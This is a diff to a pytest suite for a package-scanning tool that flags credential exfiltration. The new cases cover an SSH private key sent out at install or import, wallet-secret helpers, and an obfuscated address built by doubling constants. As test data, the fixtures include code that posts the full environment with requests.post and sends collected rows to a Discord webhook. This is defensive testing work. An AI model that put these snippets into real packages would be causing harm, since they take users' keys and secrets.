@@ -367,8 +367,11 @@ def test_the_one_value_a_function_named_for_a_wallet_secret_takes_is_that_secret
         "def load_mnemonic_wordlist(language):\n    return _get(_LIST + language)\n",
         "def keypair_balance(pubkey):\n    return _get(_LIST + pubkey)\n",
         "def import_private_key(path):\n    return _get(_LIST + path)\n",
+        # generic secrets, not a wallet's: a key's id, a salt
+        "def fetch_secret_key(key_id):\n    return _get(_LIST + key_id)\n",
+        "def derive_from_passphrase(salt):\n    return _get(_LIST + salt)\n",
     ],
-    ids=["two-values", "not-named-for-a-secret", "wordlist", "public-key", "path"],
+    ids=["two-values", "not-named-for-a-secret", "wordlist", "public-key", "path", "key-id", "salt"],
 )
 def test_a_function_not_named_for_its_one_wallet_secret_passes_no_secret(tmp_path: Path, body: str) -> None:
     helper = (
@@ -388,17 +391,34 @@ _SEND_KEY_HOME = """
 """
 
 
-@pytest.mark.parametrize(("where", "sent"), [("setup.py", True), (f"{DEFAULT_NAME}/sync.py", False)])
-def test_a_credential_file_sent_at_install_even_to_a_host_named_after_the_package(
-    tmp_path: Path, where: str, sent: bool
+@pytest.mark.parametrize(
+    ("where", "run", "sent"),
+    [
+        ("setup.py", True, True),  # install
+        (f"{DEFAULT_NAME}/__init__.py", True, True),  # import
+        (f"{DEFAULT_NAME}/sync.py", False, False),  # only when called: a client may do that
+    ],
+    ids=["install", "import", "called"],
+)
+def test_a_credential_file_sent_unasked_even_to_a_host_named_after_the_package(
+    tmp_path: Path, where: str, run: bool, sent: bool
 ) -> None:
-    # the package names the host after itself; a credential file leaves at install all the same
-    code = textwrap.dedent(_SEND_KEY_HOME.replace("{name}", DEFAULT_NAME))
-    files = {f"{DEFAULT_NAME}/__init__.py": "", where: code + ("report()\n" if sent else "")}
+    # the package names the host after itself; a credential file leaves unasked all the same
+    code = textwrap.dedent(_SEND_KEY_HOME.replace("{name}", DEFAULT_NAME)) + ("report()\n" if run else "")
+    files = {f"{DEFAULT_NAME}/__init__.py": "", where: code}
     verdict, findings = scan_package(tmp_path, files)
     assert any(f.startswith("exfil-flow:critical") for f in findings) is sent, findings
-    if not sent:  # a client the user calls may send what it reads to its own service
+    if not sent:
         assert verdict is not Verdict.MALICIOUS, findings
+
+
+def test_an_app_sending_its_env_file_to_its_own_service_at_import_is_not_exfiltration(tmp_path: Path) -> None:
+    # a project's `.env` holds the app's own secrets: sending them to its own API is app code
+    code = textwrap.dedent(_SEND_KEY_HOME.replace("{name}", DEFAULT_NAME)).replace(
+        'os.path.expanduser("~/.ssh/id_rsa")', '".env"'
+    )
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": code + "report()\n"})
+    assert verdict is not Verdict.MALICIOUS, findings
 
 
 @pytest.mark.parametrize(
@@ -465,6 +485,14 @@ urllib.request.urlopen(_HOOK, data=str(list(_rows())).encode())
 """
     found = [f for f in flows_of(source) if f.source is Source.SECRET_FILE]
     assert found and found[0].destination.host == "discord.com", flows_of(source)
+
+
+def test_an_address_spelled_by_doubling_constants_is_not_built() -> None:
+    # `X1 = X0 + X0`, ...: the whole text would be gigabytes; an address is never that long
+    lines = ['X0 = "' + "a" * 60_000 + '"', *(f"X{i} = X{i - 1} + X{i - 1}" for i in range(1, 16))]
+    source = "import os, requests\n" + "\n".join(lines) + "\nrequests.post(X15, data=dict(os.environ))\n"
+    found = flows_of(source)  # returns at once, whatever it finds
+    assert all(f.destination.host is None or len(f.destination.host) < 300 for f in found)
 
 
 def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
